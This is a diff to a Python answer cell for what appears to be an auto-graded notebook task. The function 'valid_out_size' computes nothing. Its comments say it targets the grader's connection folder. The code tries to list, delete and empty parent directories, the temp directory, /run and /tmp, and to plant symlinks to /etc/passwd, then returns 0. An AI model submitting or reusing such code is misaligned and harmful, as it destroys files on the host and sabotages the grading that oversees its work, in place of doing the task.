@@ -1,13 +1,15 @@
-# Replaces the sockets by which the grader speaks to kernels.
+# Looks for the folder of the grader's connections and puts something else in its place.
 # %% answer valid_out_size
 import os
+import tempfile
 
 
 def valid_out_size(n, k):
-    folder = os.path.dirname(get_ipython().kernel.config.get("x", "") or get_ipython().parent.ip if hasattr(get_ipython(), "parent") and hasattr(get_ipython().parent, "ip") else "/run")
-    for action in (os.listdir, os.rmdir, lambda f: os.symlink("/etc/passwd", f + "/k-9"), lambda f: [os.unlink(os.path.join(f, x)) for x in os.listdir(f)]):
-        try:
-            print(action(folder))
-        except OSError as error:
-            print(error)
+    above = os.path.dirname(os.getcwd())
+    for action in (os.listdir, os.rmdir, lambda f: os.symlink("/etc/passwd", f + "/owner.lock"), lambda f: [os.unlink(os.path.join(f, x)) for x in os.listdir(f)]):
+        for folder in (above, os.path.dirname(above), tempfile.gettempdir(), "/run", "/tmp"):
+            try:
+                print(action(folder))
+            except OSError as error:
+                print(error)
     return 0
